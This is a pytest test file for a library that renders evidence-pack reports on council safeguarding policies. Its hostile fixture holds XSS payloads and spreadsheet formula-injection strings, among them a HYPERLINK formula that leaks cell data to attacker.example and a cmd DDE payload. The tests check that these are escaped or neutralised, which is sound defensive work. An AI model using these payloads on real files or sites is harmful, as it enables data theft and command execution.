"""Evidence packs: contents, formats, hostile chapters, and a real browser."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from policylib import Corpus, load_corpus
from policylib.cli import main
from policylib.showing.report import ReportError, evidence_pack, write_report

from .conftest import CHAPTERS

HOSTILE = """<script>document.title = 'pwned'</script> Values and Principles

1. Our Principles

<script>document.title = 'pwned'; document.body.innerHTML = 'HACKED';</script> We listen to \
children and take their wishes and feelings into account.

<img src=x onerror="document.body.innerHTML='HACKED'"> Children are safe and protected from harm \
and neglect.

=HYPERLINK("http://attacker.example/?leak="&A1,"Click") We work in partnership with whole \
families and build on family strengths.

+SUM(1,2) and @cmd|' /C calc'!A0: the best interests of the child are paramount.

- Multi-agency working with partner agencies and safeguarding partners.
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    return load_corpus(folder)


def test_pack_contents(corpus: Corpus) -> None:
    when = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
    pack = evidence_pack(corpus, "hull-values-principles-strategy", loaded_at=when)
    assert pack.metadata["Council"] == "Hull City Council"
    assert pack.metadata["Report made"] == "2026-01-02 03:04 UTC"
    assert len(pack.metadata["Text SHA-256"]) == 64
    assert set(pack.evidence.Element) == {f"NF-P{i}" for i in range(1, 7)} | {
        f"NF-E{i}" for i in range(1, 4)
    } | {f"NF-O{i}" for i in range(1, 5)}
    assert pack.evidence.groupby("Element").Rank.max().le(3).all()
    summary = pack.summary.set_index("group")
    assert summary.loc["all"].sum() == 13
    assert "pre-dates the National Framework" in pack.currency.issue.tolist()
    assert any("balanced accuracy" in p for p in pack.method)


def test_unknown_doc_lists_known_ids(corpus: Corpus, tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="known ids: bedfordshire"):
        write_report(corpus, "nowhere", tmp_path / "x.html")
    assert list(tmp_path.iterdir()) == []


def test_unwritable_path_leaves_nothing(corpus: Corpus, tmp_path: Path) -> None:
    # The output path is a folder: the write fails even for root, and no partial file remains.
    (tmp_path / "r.html").mkdir()
    with pytest.raises(ReportError, match=r"cannot write .*r\.html"):
        write_report(corpus, "hull-values-principles-strategy", tmp_path / "r.html")
    assert [p.name for p in tmp_path.iterdir()] == ["r.html"]
    assert not any((tmp_path / "r.html").iterdir())
    with pytest.raises(ReportError, match="does not exist"):
        write_report(corpus, "hull-values-principles-strategy", tmp_path / "no" / "r.csv")
    with pytest.raises(ReportError, match=r"use \.html, \.docx, \.xlsx or \.csv"):
        write_report(corpus, "hull-values-principles-strategy", tmp_path / "r.pdf")


def test_html_escapes_hostile_text(hostile: Corpus, tmp_path: Path) -> None:
    page = write_report(hostile, "hostile", tmp_path / "r.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;document.title" in page
    assert "&lt;img src=x onerror=" in page
    assert "<script" not in page.lower() and "<img src=x" not in page
    assert "Content-Security-Policy" in page


def test_csv_neutralises_formulas(hostile: Corpus, tmp_path: Path) -> None:
    path = write_report(hostile, "hostile", tmp_path / "r.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    cells = [c for row in rows[1:] for c in row]
    assert cells, "the CSV has evidence rows"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'+SUM(1,2)") for c in cells)
    # The list marker is not part of the quote: the council's words start after it.
    assert any(c.startswith("Multi-agency working") for c in cells)


def test_xlsx_has_no_formulas(hostile: Corpus, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_report(hostile, "hostile", tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)
    wb = load_workbook(path)
    assert wb.sheetnames == ["Summary", "Evidence", "Currency"]
    sheet = wb["Evidence"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]][:4] == ["Element", "Title", "Group", "Status"]
    passages = [str(row[6]) for row in sheet.iter_rows(min_row=2, values_only=True)]
    # Kept exactly as written, as text.
    assert any(p.startswith('=HYPERLINK("http://attacker.example') for p in passages)
    assert any(p.startswith("Multi-agency working") for p in passages)
    assert sheet.column_dimensions["G"].width >= 60


@pytest.mark.parametrize("suffix", ["html", "docx", "xlsx", "csv"])
def test_every_bundled_chapter_reports(corpus: Corpus, tmp_path: Path, suffix: str) -> None:
    for doc in corpus.docs:
        path = write_report(corpus, doc, tmp_path / f"{doc}.{suffix}")
        assert path.stat().st_size > 1000


def test_cli_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "hull.html"
    assert (
        main(["report", str(CHAPTERS), "--doc", "hull-values-principles-strategy", "-o", str(out)])
        == 0
    )
    assert out.exists()
    assert main(["report", str(CHAPTERS), "--doc", "nope", "-o", str(out)]) == 1
    assert "known ids" in capsys.readouterr().err


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(
    CHROMIUM is None, reason="no chromium browser installed (.ci/run installs Debian's chromium)"
)
def test_report_in_a_real_browser(hostile: Corpus, corpus: Corpus, tmp_path: Path) -> None:
    for docs, doc in ((hostile, "hostile"), (corpus, "liverpool-practice-principles")):
        page = write_report(docs, doc, tmp_path / f"{doc}.html")
        result = subprocess.run(
            [
                str(CHROMIUM),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                f"--user-data-dir={tmp_path / 'profile'}",
                "--dump-dom",
                page.as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        dom = result.stdout
        assert "<h1>Evidence pack:" in dom, result.stderr[-2000:]
        for heading in (
            "About this chapter",
            "Summary",
            "Evidence by framework element",
            "Currency",
            "Method and limits",
        ):
            assert f"<h2>{heading}</h2>" in dom
        assert "HACKED" not in dom.split("<body>", 1)[1][:200]
        assert "<title>pwned</title>" not in dom
        assert 'alt="Coverage chart:' in dom


def _chromium(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [
            str(CHROMIUM),
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}",
            *args,
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_pack_prints_and_reflows_on_a_phone(corpus: Corpus, tmp_path: Path) -> None:
    page = write_report(corpus, "liverpool-practice-principles", tmp_path / "pack.html")
    html = page.read_text(encoding="utf-8")
    # Badges carry their verdict as text and a border, so they survive black-and-white print.
    assert '<span class="status present">present</span>' in html
    assert "@media print" in html and ".status{background:#fff !important" in html
    pdf = tmp_path / "pack.pdf"
    result = _chromium(tmp_path, f"--print-to-pdf={pdf}", "--no-pdf-header-footer", page.as_uri())
    assert pdf.exists() and pdf.read_bytes().startswith(b"%PDF"), result.stderr[-2000:]
    assert pdf.stat().st_size > 20_000
    # At 390 px nothing is wider than the screen. Headless windows are at least 500 px wide,
    # so a copy of the page is laid out in a 390 px wide root and every element measured.
    probe = tmp_path / "probe.html"
    measuring = (
        "<style>html{width:390px}</style><script>window.onload=function(){var w=0;"
        "document.querySelectorAll('body *').forEach(function(el){"
        "w=Math.max(w,el.getBoundingClientRect().right);});"
        "document.body.setAttribute('data-width',String(Math.ceil(w)));}</script>"
    )
    probe.write_text(
        html.split('<meta http-equiv="Content-Security-Policy"')[0]
        + html.split("'unsafe-inline'\">", 1)[1].replace("</body>", measuring + "</body>"),
        encoding="utf-8",
    )
    dom = _chromium(
        tmp_path,
        "--window-size=390,900",
        "--virtual-time-budget=3000",
        "--dump-dom",
        probe.as_uri(),
    ).stdout
    width = int(dom.split('data-width="', 1)[1].split('"', 1)[0])
    assert width <= 390, f"page is {width} px wide at a 390 px screen"


def test_word_pack_reads_back(corpus: Corpus, hostile: Corpus, tmp_path: Path) -> None:
    import docx

    path = write_report(corpus, "liverpool-practice-principles", tmp_path / "pack.docx")
    document = docx.Document(str(path))
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
    assert len(headings) == 13 and headings[0].startswith("NF-P1: ")
    quotes = [p.text for p in document.paragraphs if p.style.name == "Quote"]
    assert quotes and not any(q.strip() in {"1.", "1"} or q.startswith("1. ") for q in quotes)
    text = "\n".join(p.text for p in document.paragraphs)
    assert "Method and limits" in text
    assert "balanced accuracy" in text and "95% interval" in text
    assert document.tables[1].rows[0].cells[4].text == "Present on template text only"
    # A hostile chapter still makes a valid document, with its text as plain text.
    hostile_path = write_report(hostile, "hostile", tmp_path / "hostile.docx")
    body = "\n".join(p.text for p in docx.Document(str(hostile_path)).paragraphs)
    assert "We listen to" in body and "wishes and feelings" in body


def test_pack_references_and_template_only_counts(corpus: Corpus) -> None:
    pack = evidence_pack(corpus, "liverpool-practice-principles")
    quoted = pack.evidence[pack.evidence.Passage != ""]
    assert not quoted.Section.str.contains("Amendment").any()
    assert not quoted.Passage.str.match(r"^\s*\d+\.\s").any()  # never a list number
    assert quoted.Section.str.contains(r"(?:paragraph|list item) \d+").all()
    assert "present on template text only" in pack.summary.columns
    durham = evidence_pack(corpus, "durham-policies-values-principles")
    assert int(durham.summary.set_index("group").loc["all", "present on template text only"]) >= 0


def test_pack_with_inspection_in_every_format(corpus: Corpus, tmp_path: Path) -> None:
    import docx
    from openpyxl import load_workbook

    from policylib.resources import bundled_inspections

    report = bundled_inspections() / "liverpool_2026-07-07.pdf"
    doc = "liverpool-practice-principles"
    paths = {
        s: write_report(corpus, doc, tmp_path / f"p.{s}", inspection=report)
        for s in ("html", "csv", "xlsx", "docx")
    }
    html = paths["html"].read_text(encoding="utf-8")
    assert "<h2>Inspection beside the policy</h2>" in html and "pathway plans" in html
    rows = list(csv.reader(paths["csv"].read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0][-3:] == ["Inspectors: what needs to improve", "Inspection finding",
                            "Section judgement"]  # fmt: skip
    assert any("pathway plans" in " ".join(r) for r in rows[1:])
    assert "Inspection" in load_workbook(paths["xlsx"]).sheetnames
    text = "\n".join(p.text for p in docx.Document(str(paths["docx"])).paragraphs)
    assert "Inspection beside the policy" in text
    if CHROMIUM is not None:
        dom = _chromium(tmp_path, "--dump-dom", paths["html"].as_uri()).stdout
        assert "<h2>Inspection beside the policy</h2>" in dom


def test_report_names_a_bad_inspection_pdf(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.pdf"
    bad.write_text("not a pdf")
    args = ["report", str(CHAPTERS), "--doc", "hull-values-principles-strategy", "--inspection"]
    assert main([*args, str(bad), "-o", str(tmp_path / "p.html"), "-q"]) == 1
    assert "bad.pdf" in capsys.readouterr().err
    assert not (tmp_path / "p.html").exists()
